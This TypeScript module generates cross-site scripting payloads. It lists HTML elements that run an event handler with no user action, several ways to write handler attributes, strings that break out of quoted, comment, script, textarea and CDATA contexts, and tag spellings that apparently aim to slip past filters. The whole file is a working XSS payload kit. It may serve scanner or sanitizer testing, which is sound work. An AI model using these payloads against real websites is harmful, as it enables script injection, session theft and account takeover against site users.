/** An element that fires an event without anybody touching it. */
export interface FiringElement {
  /** Markup with `ON` in the place of the handler's attribute. */
  readonly markup: string;
  readonly event: string;
}

const BROKEN_SOURCES = [
  "<img src=x ON>",
  "<image src=x ON>",
  "<input type=image src=x ON>",
  "<video src=x ON></video>",
  "<audio src=x ON></audio>",
  "<video><source src=x ON></video>",
  "<script src=x: ON></script>",
  "<link rel=stylesheet href=x: ON>",
  "<svg><image href=x ON></image></svg>",
  "<svg><image xlink:href=x: ON></svg>",
  "<picture><img srcset=x ON></picture>",
  "<object data=x: ON></object>",
];
const LOADS = [
  "<svg ON></svg>",
  "<iframe ON></iframe>",
  "<iframe src=about:blank ON></iframe>",
  "<iframe srcdoc=x ON></iframe>",
  "<style ON></style>",
  "<link rel=stylesheet href=data:text/css, ON>",
  "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= ON>",
  "<svg><g><svg ON></svg></g></svg>",
];
const ANIMATIONS = [
  "<svg><animate ON attributeName=x dur=1s>",
  "<svg><set ON attributeName=x to=1 dur=1s>",
  "<svg><animateTransform ON attributeName=transform dur=1s>",
  "<svg><animateMotion ON dur=1s></svg>",
];
const OTHERS: readonly FiringElement[] = [
  { markup: "<details open ON><summary>s</summary>x</details>", event: "toggle" },
  { markup: "<video src=x ON></video>", event: "loadstart" },
  { markup: "<audio src=x ON></audio>", event: "loadstart" },
  { markup: "<marquee width=9 ON>x</marquee>", event: "start" },
  {
    markup: "<p style=display:block;content-visibility:auto ON>x</p>",
    event: "contentvisibilityautostatechange",
  },
  {
    markup: "<style>@keyframes k{}</style><b style=animation:k ON>x</b>",
    event: "animationstart",
  },
  {
    markup: "<style>@keyframes k{}</style><xss style=animation:k ON>x</xss>",
    event: "animationend",
  },
];

/** Every one that is tried. */
export const FIRING_ELEMENTS: readonly FiringElement[] = [
  ...BROKEN_SOURCES.map((markup) => ({ markup, event: "error" })),
  ...LOADS.map((markup) => ({ markup, event: "load" })),
  ...ANIMATIONS.map((markup) => ({ markup, event: "begin" })),
  ...OTHERS,
];

/** How an attribute with a handler can be written: `on` and the event's name, and the code. */
export const HANDLERS: readonly ((event: string, code: string) => string)[] = [
  (event, code) => `on${event}=${code}`,
  (event, code) => `on${event}="${code}"`,
  (event, code) => `on${event}='${code}'`,
  (event, code) => `ON${event.toUpperCase()} = "${code}"`,
  (event, code) => `On${event}\n=\t${code}`,
  (event, code) => `x=y/on${event}=${code}//`,
];

/** What ends the place where a text was put, so that markup begins. */
export const BREAKOUTS: readonly string[] = [
  "",
  '">',
  "'>",
  "-->",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</noscript>",
  "</select>",
  "</template>",
  "]]>",
  '"/><!---->',
];

/** Letters of names in other cases, and other characters between attributes. */
export const TAG_SPELLINGS: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.replace(/^<(\w+)/, (_, name: string) => `<${name.toUpperCase()}`),
  (markup) => markup.replace(/^(<\w+) /, "$1/"),
  (markup) => markup.replace(/^(<\w+) /, "$1\n\t"),
  (markup) => `<<b>${markup}`,
  (markup) => markup.replace(/^<(\w)/, "<b/x>\u000b<$1"),
];
